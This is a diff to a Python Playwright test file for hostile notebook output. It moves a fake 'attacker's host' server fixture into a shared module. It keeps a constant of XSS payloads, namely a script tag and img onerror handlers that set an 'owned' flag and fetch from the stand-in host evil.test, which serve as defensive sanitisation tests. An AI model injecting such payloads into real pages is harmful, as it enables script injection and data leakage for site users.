@@ -3,19 +3,15 @@
 from __future__ import annotations
 
 import json
-import threading
-from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any, ClassVar
+from typing import Any
 
-import pytest
 from playwright.sync_api import Page, expect
 
 from tests.support.browser.demo import commit, import_ipynb
+from tests.support.hostile.host import EVIL, Host
 
-# Each would set `owned` in the page, or fetch from a host of its own, if it got through.
-EVIL = "http://evil.test"
+# Each would set `owned` in the page, or fetch from the attacker's host, if it got through.
 MARKUP = (
     "<script>window.top.owned = 1; fetch('http://evil.test/script')</script>"
     "<img src=x onerror='window.owned = 1'><img src='http://evil.test/img.png'>"
@@ -98,36 +94,6 @@ BUNDLES: list[dict[str, Any]] = [
     {"application/vnd.plotly.v1+json": "{"},
     {"application/vnd.vegalite.v5+json": None},
 ]
-
-
-class Host(BaseHTTPRequestHandler):
-    """The attacker's host: it would serve anybody anything, and keeps what was asked for."""
-
-    asked: ClassVar[list[str]] = []
-
-    def do_GET(self) -> None:
-        self.asked.append(self.path)
-        self.send_response(200)
-        self.send_header("Access-Control-Allow-Origin", "*")
-        self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
-        self.end_headers()
-
-    do_POST = do_GET
-
-    def log_message(self, format: str, *args: Any) -> None:
-        pass
-
-
-@pytest.fixture
-def evil() -> Iterator[str]:
-    """The address of a host that stands in for evil.test."""
-    Host.asked.clear()
-    with ThreadingHTTPServer(("127.0.0.1", 0), Host) as server:
-        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
-        thread.start()
-        yield f"http://127.0.0.1:{server.server_port}"
-        server.shutdown()
-        thread.join()
 
 
 def hostile_file() -> dict[str, Any]:
